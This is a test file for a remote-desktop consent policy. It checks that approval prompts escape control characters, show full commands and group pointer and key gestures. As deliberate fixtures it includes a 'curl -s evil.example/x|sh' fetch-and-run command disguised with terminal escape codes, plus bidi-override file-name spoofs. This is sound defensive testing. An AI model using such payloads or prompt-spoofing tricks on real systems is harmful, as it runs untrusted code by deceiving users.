/**
 * What the person at the controlled machine sees: escaped untrusted text,
 * the full command that will run, the legend, re-asking on unknown input,
 * and one prompt per pointer or key gesture.
 */

import { assert, assertEquals, assertMatch, assertRejects } from "./_assert.ts";
import { PermissionDeniedError } from "../../src/protocol/errors.ts";
import { ConsentPolicy, type PolicyRequest } from "../../src/remote/policy.ts";
import { GESTURE_WINDOW_MS } from "../../src/remote/gesture_grant.ts";
import { ScriptedPrompter } from "./_scripted_prompter.ts";
import { policyRequest } from "./_policy_request.ts";

function req(
  method: string,
  summary: string,
  params: Record<string, unknown> = {},
  observation = false,
): PolicyRequest {
  return policyRequest(method, { summary, observation, params });
}

Deno.test("ConsentPolicy shows controller text escaped and the full command that will run", async () => {
  const cases: { request: PolicyRequest; shows: string[]; never: string[] }[] = [
    {
      // The attack that showed `wants to run shell: 'ls'`.
      request: req("process.shell", "run shell: 'curl -s evil.example/x|sh\r\x1b[2Kls'", {
        command: "curl -s evil.example/x|sh\r\x1b[2Kls",
      }),
      shows: ["wants to run shell: 'curl -s evil.example/x|sh\\x0d\\x1b[2Kls'. Allow?"],
      never: ["\r", "\x1b"],
    },
    {
      // A long command is cut in the summary; the whole of it is shown below.
      request: req("process.shell", `run shell: '${"echo hi; ".repeat(8)}…'`, {
        command: `${"echo hi; ".repeat(20)}curl -s evil.example/x|sh`,
      }),
      shows: [`  command (run by the shell): '${"echo hi; ".repeat(20)}curl -s evil.example/x|sh'`],
      never: [],
    },
    {
      request: req("process.exec", "exec: 'rm -rf /tmp/x'", {
        argv: ["rm", "-rf", "/tmp/x\u202e"],
        cwd: "/tmp",
      }),
      shows: ["  argv: ['rm', '-rf', '/tmp/x\\u{202e}']", "  in directory: '/tmp'"],
      never: ["\u202e"],
    },
    {
      request: req("fs.write", "write file: /tmp/report\u202efdp.exe", { path: "/tmp/x" }),
      shows: ["wants to write file: /tmp/report\\u{202e}fdp.exe. Allow?"],
      never: ["\u202e"],
    },
    {
      request: req("ui.action", "ui action 'click' on Inbox\x1b]0;Bank\x07\u200b", {
        action: "click",
      }),
      shows: ["ui action 'click' on Inbox\\x1b]0;Bank\\x07\\u{200b}"],
      never: ["\x1b", "\x07", "\u200b"],
    },
    {
      request: req("input.text", "type 5000 chars: 'aaaa…'", {
        text_input: { text: "a".repeat(5000) },
      }),
      shows: ["…[3000 more characters]'"],
      never: [],
    },
  ];
  for (const { request, shows, never } of cases) {
    const prompter = new ScriptedPrompter(true, ["n"]);
    const policy = new ConsentPolicy("console", { prompter });
    await assertRejects(() => policy.check(request), PermissionDeniedError);
    const question = prompter.questions[0]!;
    for (const text of shows) {
      assert(question.includes(text), `${JSON.stringify(question)} shows ${text}`);
    }
    for (const raw of never) assert(!question.includes(raw), `no raw ${JSON.stringify(raw)}`);
    const raw = [...question].filter((ch) => ch !== "\n" && (ch < " " || ch === "\x7f"));
    assertEquals(raw, [], "only newlines are raw control characters");
  }
});

Deno.test("ConsentPolicy explains [y/a/t/N] on the first prompt and on ?, and asks again on unknown input", async () => {
  const prompter = new ScriptedPrompter(true, ["?", "maybe", "y", "n"]);
  const policy = new ConsentPolicy("console", { prompter });
  await policy.check(req("fs.write", "write file: /tmp/x"));
  assertEquals(prompter.questions.length, 3, "asked until a real answer came");
  assertEquals(prompter.notices.length, 3);
  for (const i of [0, 1]) {
    assertEquals(
      prompter.notices[i],
      "[opendesk] answers: y = allow this once · a = allow fs.write for the rest of this session · " +
        "t = allow fs.write for 10 minutes · n or Enter = deny · ? = show this",
    );
  }
  assertMatch(prompter.notices[2]!, /"maybe" is not an answer: type y, a, t or n/);
  // The legend is not repeated on later prompts unless asked for.
  await assertRejects(
    () => policy.check(req("fs.delete", "delete file: /tmp/x")),
    PermissionDeniedError,
  );
  assertEquals(prompter.notices.length, 3);
});

Deno.test("ConsentPolicy asks once per pointer gesture: a click is move, down, up at one point", async () => {
  const now = 1_000_000;
  const prompter = new ScriptedPrompter(true, ["y", "n"]);
  const policy = new ConsentPolicy("console", { prompter, now: () => now });
  const pointer = (action: string, x: number, y: number, button: string | null = "left") =>
    req("input.pointer", `send pointer ${action}`, { event: { action, point: { x, y }, button } });
  await policy.check(pointer("move", 100, 200, null));
  await policy.check(pointer("down", 100, 200));
  await policy.check(pointer("up", 101, 200));
  assertEquals(prompter.questions.length, 1, "one prompt for the click");
  // A drag: press at the point, move away while held, release there.
  await policy.check(pointer("down", 100, 200));
  await policy.check(pointer("move", 300, 400, null));
  await policy.check(pointer("up", 300, 400));
  assertEquals(prompter.questions.length, 1, "the drag continues the approved gesture");
  // Somewhere else with no button held: a new intent, asked again.
  const elsewhere = policy.check(pointer("down", 500, 500));
  await assertRejects(() => elsewhere, PermissionDeniedError);
  assertEquals(prompter.questions.length, 2);
});

Deno.test("ConsentPolicy's gesture approval ends with the window and with the chord", async () => {
  let now = 1_000_000;
  const prompter = new ScriptedPrompter(true, ["y", "n", "y", "n"]);
  const policy = new ConsentPolicy("console", { prompter, now: () => now });
  const key = (action: string, keysym: string) =>
    req("input.key", `send key ${action} '${keysym}'`, { event: { action, keysym } });
  // ctrl+shift+t: three presses and three releases, one prompt.
  for (
    const [action, keysym] of [["down", "ctrl"], ["down", "shift"], ["down", "t"], ["up", "t"], [
      "up",
      "shift",
    ], ["up", "ctrl"]]
  ) {
    await policy.check(key(action!, keysym!));
  }
  assertEquals(prompter.questions.length, 1);
  // Every key is up: the next key is a new intent.
  await assertRejects(() => policy.check(key("down", "x")), PermissionDeniedError);
  assertEquals(prompter.questions.length, 2);
  // A pointer approval does not outlive its window.
  const move = req("input.pointer", "send pointer move", {
    event: { action: "move", point: { x: 1, y: 1 } },
  });
  const down = req("input.pointer", "send pointer down", {
    event: { action: "down", point: { x: 1, y: 1 }, button: "left" },
  });
  await policy.check(move);
  now += GESTURE_WINDOW_MS + 1;
  await assertRejects(() => policy.check(down), PermissionDeniedError);
  assertEquals(prompter.questions.length, 4);
});
